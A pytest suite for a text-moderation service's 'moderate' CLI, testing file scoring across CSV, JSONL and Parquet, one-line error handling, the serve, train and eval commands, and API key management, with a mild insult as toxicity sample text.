"""The ``moderate`` command through click's CliRunner, on the tiny bundle."""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from service.cli import cli

HOSTILE = "You are a stupid clown, the minister ignores the vote."
NEUTRAL = "The council supports the plan and I think that is fair."
CSV_SOURCE = (
    "id,author,text,note\n"
    f'c1,ann,"{HOSTILE}",007\n'
    f"c2,bob,{NEUTRAL},NA\n"
    "c3,cy,,\n"
    "c4,dee,NA,null\n"
    'c5,eve,"two\nlines, ""quoted""",x\n'
)


@pytest.fixture
def runner():
    return CliRunner()


@pytest.fixture
def run(runner, tiny_bundle_path):
    """Invoke ``moderate`` with the tiny bundle as the default model."""

    def invoke(*args: str):
        return runner.invoke(cli, list(map(str, args)), env={"MODERATION_MODEL": str(tiny_bundle_path)})

    return invoke


def added_columns(scorer) -> list[str]:
    return [*scorer.attributes, "decision", "reasons"]


def check_scored(out: pd.DataFrame, source: pd.DataFrame, scorer) -> None:
    """Every input column and row kept in order, then valid scores, decision and reasons."""
    assert list(out.columns) == [*source.columns, *added_columns(scorer)]
    pd.testing.assert_frame_equal(out[list(source.columns)], source)
    scores = out[list(scorer.attributes)].astype(float)
    assert ((scores >= 0) & (scores <= 1)).all().all()
    assert set(out["decision"]) <= {"approve", "review", "reject"}
    for reasons in out["reasons"]:
        assert all("code" in reason for reason in json.loads(reasons))


def read_csv_text(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.mark.parametrize("chunk_size", [2, 5_000])
def test_score_csv_keeps_every_column_and_row(tmp_path, run, scorer, chunk_size):
    (tmp_path / "in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    result = run("score", tmp_path / "in.csv", "-o", tmp_path / "out.csv", "--id-column", "id", "--chunk-size", chunk_size)
    assert result.exit_code == 0, result.output
    assert f"Scored 5 rows into {tmp_path / 'out.csv'}" in result.stderr
    source = read_csv_text(tmp_path / "in.csv")
    out = read_csv_text(tmp_path / "out.csv")
    check_scored(out, source, scorer)
    assert source["note"].tolist() == ["007", "NA", "", "null", "x"]
    by_id = out.set_index("id")
    assert float(by_id.loc["c1", "toxicity"]) > float(by_id.loc["c2", "toxicity"])
    assert by_id.loc["c1", "decision"] != "approve"
    assert by_id.loc["c3", "decision"] == "approve"
    assert [r["code"] for r in json.loads(by_id.loc["c3", "reasons"])] == ["empty"]
    assert [r["code"] for r in json.loads(by_id.loc["c4", "reasons"])] != ["empty"]  # "NA" is text


def test_score_with_two_jobs_writes_what_one_job_writes(tmp_path, run):
    (tmp_path / "in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    one = run("score", tmp_path / "in.csv", "-o", tmp_path / "one.csv", "--chunk-size", 3)
    two = run("score", tmp_path / "in.csv", "-o", tmp_path / "two.csv", "--chunk-size", 3, "--jobs", 2)
    assert one.exit_code == 0 and two.exit_code == 0, two.output
    assert (tmp_path / "two.csv").read_bytes() == (tmp_path / "one.csv").read_bytes()


@pytest.mark.parametrize("spans", [False, True])
def test_score_agrees_with_the_scorer(tmp_path, run, scorer, spans):
    (tmp_path / "in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    result = run("score", tmp_path / "in.csv", "-o", tmp_path / "out.csv", "--spans" if spans else "--no-spans")
    assert result.exit_code == 0, result.output
    out = read_csv_text(tmp_path / "out.csv")
    texts = read_csv_text(tmp_path / "in.csv")["text"].tolist()
    expected = [d.to_dict() for d in scorer.moderate(texts, with_spans=spans)]
    assert out["decision"].tolist() == [d["decision"] for d in expected]
    assert [json.loads(r) for r in out["reasons"]] == [d["reasons"] for d in expected]
    assert out["toxicity"].astype(float).tolist() == [d["scores"]["toxicity"] for d in expected]
    hostile_reasons = json.loads(out["reasons"][0])
    assert any("span" in reason for reason in hostile_reasons) == spans


def test_score_jsonl_keeps_types_missing_keys_and_order(tmp_path, run, scorer):
    rows = [
        {"id": 1, "text": HOSTILE, "meta": {"likes": [1, 2]}},
        {"id": 2, "text": None},
        {"id": 3},
        {"id": 4, "text": NEUTRAL, "flag": True},
    ]
    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    result = run("score", tmp_path / "in.jsonl", "-o", tmp_path / "out.jsonl", "--chunk-size", 3)
    assert result.exit_code == 0, result.output
    out = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(out) == len(rows)
    for source, scored in zip(rows, out):
        assert list(scored) == [*source, *added_columns(scorer)]
        assert {k: scored[k] for k in source} == source
    assert [row["decision"] for row in out[1:3]] == ["approve", "approve"]
    assert all(json.loads(row["reasons"])[0]["code"] == "empty" for row in out[1:3])
    assert out[0]["toxicity"] > out[3]["toxicity"]


def test_score_parquet_keeps_types_and_rows(tmp_path, run, scorer):
    table = pa.table(
        {
            "id": pa.array([10, 20, None, 40], pa.int64()),
            "text": pa.array([NEUTRAL, None, "", HOSTILE], pa.string()),
            "posted": pa.array([1, 2, 3, 4], pa.timestamp("s")),
        }
    )
    pq.write_table(table, tmp_path / "in.parquet")
    result = run("score", tmp_path / "in.parquet", "-o", tmp_path / "out.parquet", "--chunk-size", 3)
    assert result.exit_code == 0, result.output
    out = pq.read_table(tmp_path / "out.parquet")
    assert out.column_names == [*table.column_names, *added_columns(scorer)]
    stored = pq.read_table(tmp_path / "in.parquet")  # Parquet itself stores timestamp[s] as [ms]
    assert out.select(table.column_names).schema.remove_metadata() == stored.schema.remove_metadata()
    assert out.select(table.column_names).to_pylist() == table.to_pylist()
    for name in scorer.attributes:
        assert out.schema.field(name).type == pa.float64()
    decisions = out.column("decision").to_pylist()
    assert decisions[1] == decisions[2] == "approve"
    assert decisions[3] != "approve"


@pytest.mark.parametrize(("source", "target"), [("csv", "parquet"), ("csv", "jsonl"), ("parquet", "csv")])
def test_score_converts_between_formats(tmp_path, run, scorer, source, target):
    frame = read_csv_text_from(CSV_SOURCE, tmp_path)
    path = tmp_path / f"in.{source}"
    if source == "parquet":
        pq.write_table(pa.Table.from_pandas(frame, preserve_index=False), path)
    result = run("score", path, "-o", tmp_path / f"out.{target}")
    assert result.exit_code == 0, result.output
    if target == "parquet":
        out = pq.read_table(tmp_path / "out.parquet").to_pandas()
    elif target == "jsonl":
        out = pd.read_json(tmp_path / "out.jsonl", lines=True, dtype=False)
    else:
        out = read_csv_text(tmp_path / "out.csv")
    assert list(out.columns) == [*frame.columns, *added_columns(scorer)]
    assert out["id"].tolist() == frame["id"].tolist()
    assert out["text"].tolist() == frame["text"].tolist()


def read_csv_text_from(source: str, tmp_path: Path) -> pd.DataFrame:
    (tmp_path / "in.csv").write_text(source, encoding="utf-8")
    return read_csv_text(tmp_path / "in.csv")


def test_header_only_csv_gives_header_only_output(tmp_path, run, scorer):
    (tmp_path / "in.csv").write_text("id,text\n", encoding="utf-8")
    result = run("score", tmp_path / "in.csv", "-o", tmp_path / "out.csv")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == ",".join(["id", "text", *added_columns(scorer)]) + "\n"


def test_score_text_prints_one_json_result(run, scorer):
    result = run("score", "--text", HOSTILE)
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    assert printed == {"model_version": scorer.model_version, **scorer.moderate([HOSTILE])[0].to_dict()}
    assert printed["decision"] != "approve"


@pytest.mark.parametrize("line_end", ["\n", "\r\n", ""])
def test_score_text_dash_reads_the_text_from_standard_input(runner, tiny_bundle_path, scorer, line_end):
    """`echo "..." | moderate score --text -` scored the one character "-" (approve) instead of the text piped in."""
    result = runner.invoke(cli, ["score", "--text", "-"], input=HOSTILE + line_end,
                           env={"MODERATION_MODEL": str(tiny_bundle_path)})
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {"model_version": scorer.model_version, **scorer.moderate([HOSTILE])[0].to_dict()}


def test_score_empty_text_is_approved_as_empty(run):
    result = run("score", "--text", "")
    assert result.exit_code == 0, result.output
    printed = json.loads(result.stdout)
    assert printed["decision"] == "approve"
    assert [r["code"] for r in printed["reasons"]] == ["empty"]


def test_score_text_that_is_not_utf8_is_exit_2(run):
    assert_one_line_error(run("score", "--text", "caf\udce9"), r"--text is not valid UTF-8")


def test_score_model_option_beats_environment(runner, tiny_bundle_path, tmp_path):
    env = {"MODERATION_MODEL": str(tmp_path / "missing")}
    assert runner.invoke(cli, ["score", "--text", "hi"], env=env).exit_code == 2
    result = runner.invoke(cli, ["score", "--text", "hi", "--model", str(tiny_bundle_path)], env=env)
    assert result.exit_code == 0, result.output


def tampered_bundle(tmp_path: Path, tiny_bundle_path: Path) -> Path:
    copy = tmp_path / "tampered"
    shutil.copytree(tiny_bundle_path, copy)
    with open(copy / "model.joblib", "ab") as handle:
        handle.write(b"\0")
    return copy


BAD_SCORE_INPUTS = {
    "missing file": (None, ["missing.csv"], r"missing\.csv: no such file"),
    "folder without parts": (None, ["."], r"^Error: \.: a folder INPUT must hold Parquet parts \(\*\.parquet\); none found$"),
    "unknown input extension": ("in.txt", [], r"in\.txt: extension '\.txt' is not supported"),
    "compressed input": ("in.csv.gz", [], r"in\.csv\.gz: compressed files are not read; decompress it first "
                                         r"\(`gunzip -k in\.csv\.gz`\)"),
    "csv separated by semicolons": ("semicolons.csv", [], r"the header is one column, 'id;text': the file looks "
                                                       r"separated by ';'.*save it with commas"),
    "unknown output extension": ("in.csv", ["-o", "out.xlsx"], r"out\.xlsx: extension '\.xlsx' is not supported"),
    "missing text column": ("in.csv", ["--text-column", "body"], r"no column 'body'; columns found: 'id', 'author', 'text', 'note' \(pass --text-column NAME to read another\)"),
    "missing id column": ("in.csv", ["--id-column", "comment_id"], r"no column 'comment_id'; columns found: 'id', 'author', 'text', 'note' \(pass --id-column NAME to read another\)"),
    # The first chunk (2 rows) has no readable row: the columns come from the first chunk that has one.
    "missing text column after bad rows": ("bad_start.jsonl", ["--chunk-size", "2"], r"no column 'text'; columns found: 'id', 'body' \(pass --text-column NAME to read another\)"),
    "csv header not utf-8": ("latin1.csv", [], r"latin1\.csv: not UTF-8 text: byte 0xe9 .*\(line 1\).*re-encode"),
    "empty csv": ("empty.csv", [], r"the file is empty"),
    "folder output is a file name": ("parts", ["-o", "out.csv"], r"out\.csv: a folder of Parquet parts is written to a folder"),
    "resume of another run": ("in.csv", ["--resume", "--chunk-size", "3"], r"cannot resume: the interrupted run differs \(--chunk-size was 2, now 3\)"),
    "work left without --resume": ("in.csv", [], r"an interrupted run left its work in .*\.out\.csv\.partial .*pass --resume"),
    "column clash": ("scored.csv", [], r"already has column 'decision', which moderate score adds"),
    "missing output directory": ("in.csv", ["-o", "nowhere/out.csv"], r"directory .*nowhere does not exist"),
    "output is input": ("in.csv", ["-o", "in.csv"], r"OUTPUT must be a different file from INPUT"),
    "output file name is a folder": ("in.csv", ["-o", "dir.csv"], r"dir\.csv: a folder of that name is in the way"),
    "missing bundle": ("in.csv", ["--model", "no-bundle"], r"no-bundle not found"),
    "tampered bundle": ("in.csv", ["--model", "TAMPERED"], r"(?i)sha-?256"),
}


@pytest.mark.parametrize(("name", "args", "message"), list(BAD_SCORE_INPUTS.values()), ids=list(BAD_SCORE_INPUTS))
def test_bad_score_input_is_one_line_and_exit_2(tmp_path, runner, tiny_bundle_path, monkeypatch, name, args, message):
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    Path("in.txt").write_text(CSV_SOURCE, encoding="utf-8")
    Path("in.csv.gz").write_bytes(gzip.compress(CSV_SOURCE.encode("utf-8")))
    Path("semicolons.csv").write_text("id;text\n1;hello\n", encoding="utf-8")
    Path("latin1.csv").write_bytes("id,téxt\n1,café\n".encode("latin-1"))
    Path("empty.csv").write_bytes(b"")
    Path("bad_start.jsonl").write_text('not json\nalso bad\n{"id": 1, "body": "you idiot"}\n', encoding="utf-8")
    Path("parts").mkdir()
    Path("dir.csv").mkdir()
    pq.write_table(pa.table({"text": ["a"]}), "parts/p1.parquet")
    if "resume" in message:
        left_behind(runner, tiny_bundle_path)
    Path("scored.csv").write_text("text,decision\nhello,approve\n", encoding="utf-8")
    args = ["TAMPERED" if a == "TAMPERED" else a for a in args]
    if "TAMPERED" in args:
        args[args.index("TAMPERED")] = str(tampered_bundle(tmp_path, tiny_bundle_path))
    command = ["score", *([name] if name else []), *args]
    if "-o" not in command:
        command += ["-o", "out.csv"]
    result = runner.invoke(cli, command, env={"MODERATION_MODEL": str(tiny_bundle_path)})
    assert_one_line_error(result, message)
    assert not Path("out.csv").exists()
    if "resume" not in message:
        assert not list(tmp_path.glob(".*.partial"))


def test_an_output_folder_that_cannot_be_written_is_refused_before_the_model_loads(tmp_path, runner, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    Path("read-only").mkdir()
    access = os.access  # root may write anywhere: the folder stands for a read-only mount
    monkeypatch.setattr(os, "access", lambda path, mode: Path(path).name != "read-only" and access(path, mode))
    result = runner.invoke(cli, ["score", "in.csv", "-o", "read-only/out.csv", "--model", str(tmp_path / "no-bundle")])
    assert_one_line_error(result, r"read-only/out\.csv: cannot write in directory read-only \(read-only, or not yours\); "
                                  r"choose an OUTPUT in a folder you can write to$")


def left_behind(runner, tiny_bundle_path) -> None:
    """Leave the work of an interrupted ``score in.csv -o out.csv --chunk-size 2`` in the current folder."""
    from service.archive import model_settings, plan_job, run_settings
    from service.spool import Spool, Tally
    from model.bundle import read_manifest

    job = plan_job(Path("in.csv"), Path("out.csv"), chunk_rows=2)
    spool = Spool(Path("out.csv"), run_settings(job, model_settings(read_manifest(tiny_bundle_path), None), "local"),
                  resume=False)
    spool.write_chunk(0, 0, pd.DataFrame({"id": ["1", "2"]}), ".csv", Tally(read=2, scored=2), [], "in.csv")


def test_work_left_before_any_chunk_was_done_does_not_block_a_new_run(tmp_path, runner, tiny_bundle_path, monkeypatch):
    from model.bundle import read_manifest
    from service.archive import model_settings, plan_job, run_settings
    from service.spool import Spool

    monkeypatch.chdir(tmp_path)
    Path("in.csv").write_text(CSV_SOURCE, encoding="utf-8")
    job = plan_job(Path("in.csv"), Path("out.csv"), chunk_rows=2)
    Spool(Path("out.csv"), run_settings(job, model_settings(read_manifest(tiny_bundle_path), None), "local"), resume=False)
    result = runner.invoke(cli, ["score", "in.csv", "-o", "out.csv", "--model", str(tiny_bundle_path)])
    assert result.exit_code == 0, result.output
    assert Path("out.csv").exists() and not list(tmp_path.glob(".*.partial"))


def test_a_column_first_seen_in_a_later_chunk_is_placed_in_the_input(tmp_path, runner, tiny_bundle_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("in.jsonl").write_text('{"text": "a"}\n{"text": "b"}\n{"text": "c", "author": "x"}\n', encoding="utf-8")
    result = runner.invoke(cli, ["score", "in.jsonl", "-o", "out.csv", "--chunk-size", "2", "--model", str(tiny_bundle_path)])
    assert_one_line_error(result, r"^Error: in\.jsonl \(its output\): column 'author' first appears after row 2; write \.jsonl")
    assert ".partial/part-" not in result.stderr


def test_an_error_the_data_would_repeat_does_not_advise_resume(tmp_path, runner, tiny_bundle_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("in.jsonl").write_text('{"text": "a", "n": 1}\n{"text": "b", "n": "one"}\n', encoding="utf-8")
    result = runner.invoke(cli, ["score", "in.jsonl", "-o", "out.parquet", "--chunk-size", "1", "--model",
                                 str(tiny_bundle_path)])
    assert_one_line_error(result, r"The same command would stop here again: fix the input, or choose another output "
                                  r"format, then delete .*\.out\.parquet\.partial")
    assert "--resume" not in result.stderr


def assert_one_line_error(result, message: str) -> None:
    """Exit status 2, a single ``Error:`` line on stderr matching ``message``, no traceback."""
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: ")
    assert re.search(message, lines[0]), lines[0]


@pytest.mark.parametrize(
    "args",
    [["score"], ["score", "in.csv"], ["score", "in.csv", "-o", "out.csv", "--text", "hi"], ["score", "--chunk-size", "0"]],
)
def test_score_usage_mistakes_exit_2(runner, args):
    result = runner.invoke(cli, args)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert "Error:" in result.stderr


def test_train_missing_data_dir_is_exit_2(runner, tmp_path):
    result = runner.invoke(cli, ["train", "--data-dir", str(tmp_path / "nodata"), "--out", str(tmp_path / "b")])
    assert_one_line_error(result, r"data directory .*nodata not found")


def test_eval_missing_data_dir_is_exit_2(runner, tmp_path, tiny_bundle_path):
    args = ["eval", "--data-dir", str(tmp_path / "nodata"), "--model", str(tiny_bundle_path), "--out", str(tmp_path / "r" / "new")]
    assert_one_line_error(runner.invoke(cli, args), r"nodata")
    assert not (tmp_path / "r").exists()  # checking --out left an empty r/new/plots/ behind


def test_eval_bad_bundle_is_exit_2(runner, tmp_path):
    args = ["eval", "--data-dir", str(tmp_path), "--model", str(tmp_path / "no-bundle"), "--out", str(tmp_path / "r")]
    assert_one_line_error(runner.invoke(cli, args), r"no-bundle not found")


def test_eval_refuses_an_out_it_cannot_write_before_loading_anything(runner, tmp_path):
    """A folder where eval.json goes stopped the run only at its end, after 10 minutes of scoring."""
    (tmp_path / "r" / "eval.json").mkdir(parents=True)
    args = ["eval", "--data-dir", str(tmp_path / "nodata"), "--model", str(tmp_path / "no-bundle"), "--out", str(tmp_path / "r")]
    assert_one_line_error(runner.invoke(cli, args), r"r/eval.json: is a folder, not a file$")


def test_eval_names_the_file_that_stands_where_a_folder_of_out_should_be(runner, tmp_path):
    """An --out two folders below a file gave "Not a directory" for a folder that does not exist."""
    (tmp_path / "blocker").write_text("a file")
    args = ["eval", "--data-dir", str(tmp_path / "nodata"), "--model", str(tmp_path / "no-bundle"),
            "--out", str(tmp_path / "blocker" / "a" / "b")]
    assert_one_line_error(runner.invoke(cli, args), r"/blocker: is a file, not a folder$")


def test_eval_says_a_missing_bundle_is_the_baseline(runner, tmp_path, tiny_bundle_path):
    args = ["eval", "--data-dir", str(tmp_path / "nodata"), "--model", str(tiny_bundle_path), "--out", str(tmp_path / "r"),
            "--baseline", "9.9.9"]
    assert_one_line_error(runner.invoke(cli, args), r"^Error: the baseline: .*9\.9\.9.*not found")


def test_serve_bad_bundle_is_exit_2(runner, tmp_path):
    """The message read "Error: BundleError: model bundle ... not found": the class name came from the check's child."""
    assert_one_line_error(runner.invoke(cli, ["serve", "--model", str(tmp_path / "no-bundle")]),
                          r"^Error: model bundle \S*no-bundle not found: pass a folder")


def test_serve_names_a_bundle_that_is_a_file(runner, tiny_bundle_path):
    """``--model bundle/model.joblib`` was "not found", although the file is there: it is not a bundle folder."""
    model_file = tiny_bundle_path / "model.joblib"
    assert_one_line_error(runner.invoke(cli, ["serve", "--model", str(model_file)]),
                          rf"^Error: model bundle {re.escape(str(model_file))} is a file, not a folder: pass the bundle's folder")


def test_serve_on_a_taken_health_port_names_the_option(runner, tiny_bundle_path, tmp_path):
    """The error said "set MODERATION_HEALTH_PORT" to someone who had passed --health-port."""
    with socket_taken() as port:
        result = runner.invoke(cli, ["serve", "--model", str(tiny_bundle_path), "--port", "0", "--health-port", str(port)],
                               env={"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'm.db'}"})
    assert_one_line_error(result, rf"HEALTH_PORT {port} on 127.0.0.1 cannot be used \(.*\): choose another with "
                                  r"--health-port or MODERATION_HEALTH_PORT, or 0 to turn the health listener off")


@contextlib.contextmanager
def socket_taken():
    """A port on 127.0.0.1 that something listens on for as long as the block runs."""
    import socket

    with socket.create_server(("127.0.0.1", 0)) as taken:
        yield taken.getsockname()[1]


def test_train_passes_its_options_to_train_bundle(runner, monkeypatch, tmp_path):
    import model.training.train

    calls = []

    def fake_train_bundle(**kwargs):
        calls.append(kwargs)
        return tmp_path / "bundle"

    monkeypatch.setattr(model.training.train, "train_bundle", fake_train_bundle)
    result = runner.invoke(cli, ["train", "--data-dir", "d", "--out", "o", "--seed", "7"])
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{tmp_path / 'bundle'}\n"
    assert calls == [{"data_dir": Path("d"), "out_dir": Path("o"), "seed": 7, "progress": True, "overwrite": False,
                      "added_sets": True}]
    runner.invoke(cli, ["train", "--overwrite", "--no-added-sets"])
    assert calls[1] == {"data_dir": None, "out_dir": None, "seed": model.training.train.SEED, "progress": True,
                        "overwrite": True, "added_sets": False}


def test_train_help_names_the_defaults_the_code_uses(runner):
    from model.training.data import DEFAULT_DATA_DIR
    from model.training.site_data import DEFAULT_SITE_WEIGHT
    from model.training.train import SEED, TFIDF_VERSION

    help_text = " ".join(runner.invoke(cli, ["train", "--help"]).output.split())
    assert f"[default: {SEED}]" in help_text and f"[default: {DEFAULT_SITE_WEIGHT}]" in help_text
    assert f"[default: {TFIDF_VERSION}, the TF-IDF bundle; with --site-data {TFIDF_VERSION}+site." in help_text
    assert "else shared/data beside the project folder]" in help_text and DEFAULT_DATA_DIR.parts[-2:] == ("shared", "data")


def test_train_never_replaces_a_bundle_unasked(runner, monkeypatch, tmp_path, tiny_bundle_path):
    import shutil

    import model.training.train

    monkeypatch.setenv("MODERATION_BUNDLES_DIR", str(tmp_path))
    shutil.copytree(tiny_bundle_path, tmp_path / model.training.train.TFIDF_VERSION)
    before = {path.name: path.read_bytes() for path in (tmp_path / model.training.train.TFIDF_VERSION).iterdir()}
    # Refused before any data is read: the data directory does not even exist.
    result = runner.invoke(cli, ["train", "--data-dir", str(tmp_path / "absent")])
    assert_one_line_error(result, r"already holds a bundle \(version .*\); name another with --version or --out, or pass --overwrite")
    assert {path.name: path.read_bytes() for path in (tmp_path / model.training.train.TFIDF_VERSION).iterdir()} == before
    assert not (tmp_path / "CURRENT").exists()


def test_eval_passes_its_options_to_write_eval_report(runner, monkeypatch, tmp_path):
    import model.evaluation.report

    calls = []
    monkeypatch.setattr(model.evaluation.report, "write_eval_report", lambda **kwargs: calls.append(kwargs) or tmp_path / "eval.md")
    monkeypatch.delenv("MODERATION_MODEL", raising=False)
    result = runner.invoke(cli, ["eval", "--data-dir", "d", "--model", "m"])
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{tmp_path / 'eval.md'}\n"
    assert calls == [{"model_path": Path("m"), "data_dir": Path("d"), "out_dir": Path("reports"), "baseline": None}]
    assert runner.invoke(cli, ["eval", "--baseline", "1.2.0"]).exit_code == 0
    assert calls[1]["baseline"] == "1.2.0"


def test_eval_bad_baseline_is_exit_2(runner, tmp_path, tiny_bundle_path):
    args = ["eval", "--data-dir", str(tmp_path), "--model", str(tiny_bundle_path), "--baseline", str(tmp_path / "no-bundle"),
            "--out", str(tmp_path / "r")]
    result = runner.invoke(cli, args)
    assert result.exit_code == 2 and "no-bundle" in result.output


def test_serve_builds_the_app_from_options(runner, monkeypatch, tiny_bundle_path, tmp_path):
    import service.server

    served, given = [], []
    monkeypatch.setattr(service.server, "serve", lambda app, overrides: (served.append(app), given.append(overrides)))
    monkeypatch.setenv("MODERATION_WORKERS", "3")
    # Several workers share metrics through files; an operator's directory is used and emptied of old ones.
    metrics_dir = tmp_path / "metrics"
    metrics_dir.mkdir()
    (metrics_dir / "counter_123.db").write_bytes(b"old")
    monkeypatch.setenv("PROMETHEUS_MULTIPROC_DIR", str(metrics_dir))
    result = runner.invoke(cli, ["serve", "--port", "8123", "--threads", "1", "--model", str(tiny_bundle_path)])
    assert result.exit_code == 0, result.output
    (app,), (overrides,) = served, given
    assert overrides == {"PORT": 8123, "THREADS": 1, "MODEL": tiny_bundle_path}  # the options, for the workers
    options = service.server.server_options(app)
    assert options["bind"] == "127.0.0.1:8123"
    assert (options["workers"], options["threads"]) == (3, 1)
    assert options["accesslog"] is None  # it would log ?key= API keys; the app logs requests itself
    assert not (metrics_dir / "counter_123.db").exists()  # files of the master's own start may be there
    # The master forks the workers: it loaded the bundle in a child and holds no model of its own (an
    # encoder's onnxruntime session would make the workers it forks hang or abort at exit).
    from service.config import BUNDLE_PATH_KEY, EXTENSION_KEY

    assert EXTENSION_KEY not in app.extensions
    assert app.extensions[BUNDLE_PATH_KEY] == tiny_bundle_path.resolve()


def test_serve_bad_database_is_exit_2(runner, tiny_bundle_path):
    args = ["serve", "--model", str(tiny_bundle_path)]
    result = runner.invoke(cli, args, env={"MODERATION_DB_URL": "nosuchdb://x"})
    assert_one_line_error(result, r"DB_URL nosuchdb://x cannot be used")


def test_serve_on_a_taken_port_is_exit_2_at_once(runner, tiny_bundle_path, tmp_path):
    import socket

    # gunicorn alone retried for five seconds, then logged "Can't connect to ..." and exited 1
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        result = runner.invoke(cli, ["serve", "--model", str(tiny_bundle_path), "--port", str(port)],
                               env={"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'm.db'}", "MODERATION_HEALTH_PORT": "0"})
    assert_one_line_error(result, rf"PORT {port} on 127.0.0.1 cannot be used \(.*\): stop what listens there")


@pytest.mark.parametrize("where", ["a_file", "a_file/metrics"])
def test_serve_with_a_metrics_folder_it_cannot_use_is_exit_2(runner, tiny_bundle_path, tmp_path, monkeypatch, where):
    """PROMETHEUS_MULTIPROC_DIR (docs/deployment.md) naming a file, or a folder that cannot be made or written, was a
    traceback and exit status 1."""
    (tmp_path / "a_file").write_text("not a folder", encoding="utf-8")
    folder = tmp_path / where
    monkeypatch.delenv("MODERATION_OWNS_METRICS_DIR", raising=False)
    result = runner.invoke(cli, ["serve", "--model", str(tiny_bundle_path), "--port", "0"],
                           env={"PROMETHEUS_MULTIPROC_DIR": str(folder), "MODERATION_DB_URL": f"sqlite:///{tmp_path / 'm.db'}"})
    assert_one_line_error(result, rf"PROMETHEUS_MULTIPROC_DIR={re.escape(str(folder))} cannot be the folder of the "
                                  r"workers' metric files \(.+\): name a folder the service may write")


@pytest.mark.parametrize(("failure", "message"), [("no_bundle", "model bundle .* not found"), ("taken_port", "PORT .* cannot be used")])
def test_serve_that_stops_before_gunicorn_runs_leaves_no_metrics_folder(runner, tiny_bundle_path, tmp_path, monkeypatch,
                                                                        failure, message):
    """The temporary metrics folder was left in $TMPDIR at each start that failed (``Restart=on-failure`` tries every
    5 s), with the master's metric files in it once the app was built, and PROMETHEUS_MULTIPROC_DIR stayed set."""
    import socket
    import tempfile

    from service.server import _OWNED_METRICS_DIR, METRICS_DIR_ENV

    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    for name in (METRICS_DIR_ENV, _OWNED_METRICS_DIR):
        monkeypatch.setenv(name, "")  # restored (unset) after the test
        monkeypatch.delenv(name)
    model = tmp_path / "missing" if failure == "no_bundle" else tiny_bundle_path
    with socket.create_server(("127.0.0.1", 0)) as taken:
        result = runner.invoke(cli, ["serve", "--model", str(model), "--port", str(taken.getsockname()[1])],
                               env={"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'm.db'}", "MODERATION_HEALTH_PORT": "0"})
    assert_one_line_error(result, message)
    assert list(temporary.iterdir()) == []
    assert METRICS_DIR_ENV not in os.environ and _OWNED_METRICS_DIR not in os.environ


@pytest.mark.parametrize("args", [["db", "upgrade"], ["keys", "create", "cms"], ["serve", "--port", "0"]])
def test_a_sqlite_folder_that_cannot_be_made_is_exit_2(runner, tiny_bundle_path, tmp_path, args):
    (tmp_path / "taken").write_text("a file where the folder should be", encoding="utf-8")
    env = {"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'taken' / 'moderation.db'}", "MODERATION_MODEL": str(tiny_bundle_path)}
    result = runner.invoke(cli, args, env=env)
    assert_one_line_error(result, rf"SQLite file in {re.escape(str(tmp_path / 'taken'))}, which cannot be created \(.*\): create the folder")


def test_serve_bad_config_file_is_exit_2(runner, tiny_bundle_path, tmp_path):
    (tmp_path / "bad.toml").write_text("workers = [", encoding="utf-8")
    result = runner.invoke(cli, ["serve", "--model", str(tiny_bundle_path)], env={"MODERATION_CONFIG": str(tmp_path / "bad.toml")})
    assert_one_line_error(result, r"MODERATION_CONFIG=.*bad\.toml: not valid TOML")


@pytest.fixture
def db_env(tmp_path) -> dict[str, str]:
    """Environment pointing ``moderate`` at a fresh SQLite file."""
    return {"MODERATION_DB_URL": f"sqlite:///{tmp_path / 'cli.db'}"}


def test_keys_create_prints_the_key_once_and_list_never_shows_it(runner, db_env):
    created = runner.invoke(cli, ["keys", "create", "cms"], env=db_env)
    assert created.exit_code == 0, created.output
    key = created.stdout.strip()
    assert key.startswith("mod_") and "\n" not in key
    assert "cannot be shown again" in created.stderr
    listed = runner.invoke(cli, ["keys", "list"], env=db_env)
    assert listed.exit_code == 0, listed.output
    header, row = listed.stdout.splitlines()
    assert header.split("\t") == ["id", "name", "prefix", "created", "scopes", "revoked"]
    fields = row.split("\t")
    assert fields[:2] == ["1", "cms"] and fields[-1] == "-"
    assert key not in listed.output and key.startswith(fields[2].rstrip("."))


def unchecked_keys(db_env: dict[str, str], *names: str) -> None:
    """Keys as older versions let ``moderate keys create`` make them: any name, repeats included."""
    from sqlalchemy.orm import Session

    from service.auth import create_key
    from service.migrations import upgrade
    from service.store import make_engine

    engine = make_engine(db_env["MODERATION_DB_URL"])
    upgrade(engine)
    with Session(engine) as session:
        for name in names:
            create_key(session, name)
    engine.dispose()


def listed_keys(runner, db_env) -> list[tuple[str, str, bool]]:
    """(id, name, revoked) of every key ``moderate keys list`` shows."""
    listed = runner.invoke(cli, ["keys", "list"], env=db_env)
    assert listed.exit_code == 0, listed.output
    return [(fields[0], fields[1], fields[-1] != "-") for fields in (line.split("\t") for line in listed.stdout.splitlines()[1:])]


